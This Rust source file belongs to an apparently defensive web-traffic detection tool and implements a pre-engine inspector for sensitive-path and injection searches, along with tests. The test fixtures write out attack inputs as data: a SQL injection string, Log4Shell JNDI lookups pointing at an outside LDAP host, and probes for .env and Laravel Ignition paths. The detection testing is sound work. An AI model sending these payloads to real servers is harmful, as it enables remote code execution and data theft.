//! The part of detection that is a function of one exchange alone, run
//! before the exchange reaches the engine: the sensitive-path and
//! injection searches (two Aho-Corasick automata, decoding, the payload
//! checks), the costliest per-exchange work of the detectors and none of
//! it stateful. A parallel replay runs it on the worker threads that parse
//! and enrich (see `pipeline::Upstream`), where it costs no time on the one
//! thread that judges in order; the detectors then read its answers from
//! [`Exchange::searched`], and search themselves when it is absent (live
//! capture, one-thread replays). Each inspector shares the detectors' own
//! tables, so the answers are theirs, whichever thread found them.

use std::sync::Arc;

use super::{
    Engine,
    memo::SearchMemo,
    signals::{Any, injection, sensitive},
};
use crate::exchange::{Exchange, Searched};

/// The searches of the engine's detectors that judge an exchange alone,
/// with memos of their own.
#[derive(Default)]
pub struct Inspector {
    sensitive: Option<(Arc<sensitive::Tables>, SearchMemo)>,
    injection: Option<(Arc<injection::Search>, SearchMemo)>,
}

impl Inspector {
    /// The searches of `engine`'s detectors: none for a detector it does
    /// not run.
    pub fn of(engine: &Engine) -> Self {
        let mut i = Self::default();
        for d in engine.detectors() {
            match d {
                Any::Sensitive(s) => i.sensitive = Some((s.tables(), SearchMemo::default())),
                Any::Injection(x) => i.injection = Some((x.search(), SearchMemo::default())),
                _ => {}
            }
        }
        i
    }

    /// Runs the searches on `ex` and keeps their answers in it. Nothing
    /// when the engine runs neither detector.
    pub fn inspect(&mut self, ex: &mut Exchange) {
        if self.sensitive.is_none() && self.injection.is_none() {
            return;
        }
        let sensitive = self.sensitive.as_mut().and_then(|(t, memo)| t.exchange(ex, memo)).map(|i| i as u32);
        let injection = self.injection.as_mut().and_then(|(s, memo)| s.exchange(ex, memo));
        ex.searched = Some(Searched { sensitive, injection });
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{config::Config, detect::finding::Finding};

    fn exchange(target: &str, ua: &str) -> Exchange {
        Exchange {
            ts: 1_700_000_000_000_000_000,
            peer: std::net::IpAddr::from([198, 51, 100, 7]),
            method: "GET".into(),
            request: crate::exchange::RequestText::new(target).with_user_agent(Some(ua)),
            status: Some(404),
            ..Default::default()
        }
    }

    fn findings(engine: &mut Engine, exchanges: &[Exchange]) -> Vec<String> {
        let mut out: Vec<Finding> = Vec::new();
        for (n, ex) in exchanges.iter().enumerate() {
            let mut ex = ex.clone();
            ex.ts += n as u64 * 1_000_000_000;
            engine.observe_at(&ex, None, &mut out);
        }
        engine.finish(&mut out);
        out.iter().map(|f| format!("{} {}", f.detector, f.summary)).collect()
    }

    /// Inspected before or searched in the engine, the same findings.
    #[test]
    fn inspected_exchanges_are_judged_as_searched_ones() {
        let cfg = Config::default();
        let exchanges: Vec<Exchange> = [
            ("/.env", "curl/8.5.0"),
            ("/api/items?id=1%27%20OR%201=1--", "curl/8.5.0"),
            ("/api/items/7", "${jndi:ldap://198.51.100.1/a}"),
            ("/_ignition/execute-solution", "python-requests/2.31"),
            ("/wp-login.php", "Mozilla/5.0"),
            ("/api/items/8", "Mozilla/5.0"),
        ]
        .iter()
        .map(|(t, ua)| exchange(t, ua))
        .chain([Exchange {
            payload_headers: vec![
                ("Accept".into(), "*/*".into()),
                ("X-Api-Version".into(), "${jndi:ldap://198.51.100.1/b}".into()),
            ],
            peer: std::net::IpAddr::from([198, 51, 100, 8]),
            ..exchange("/api/items/9", "Mozilla/5.0")
        }])
        .collect();
        let mut plain = Engine::new(&cfg.detect, cfg.ipv6_prefix);
        let want = findings(&mut plain, &exchanges);
        assert!(want.iter().any(|f| f.starts_with("injection-probe")), "{want:?}");
        assert!(want.iter().any(|f| f.starts_with("sensitive-file-probe")), "{want:?}");
        assert!(want.iter().any(|f| f.contains("in its header")), "{want:?}");

        let mut engine = Engine::new(&cfg.detect, cfg.ipv6_prefix);
        let mut inspector = Inspector::of(&engine);
        let inspected: Vec<Exchange> = exchanges
            .iter()
            .map(|ex| {
                let mut ex = ex.clone();
                inspector.inspect(&mut ex);
                assert!(ex.searched.is_some());
                ex
            })
            .collect();
        assert_eq!(findings(&mut engine, &inspected), want);
    }

    /// What the engine does not run is not searched for.
    #[test]
    fn an_engine_without_the_detectors_gets_no_searches() {
        let mut cfg = Config::default();
        cfg.detect.disabled = vec![sensitive::NAME.into(), injection::NAME.into()];
        let engine = Engine::new(&cfg.detect, cfg.ipv6_prefix);
        let mut ex = exchange("/.env", "curl/8.5.0");
        Inspector::of(&engine).inspect(&mut ex);
        assert_eq!(ex.searched, None);
    }
}
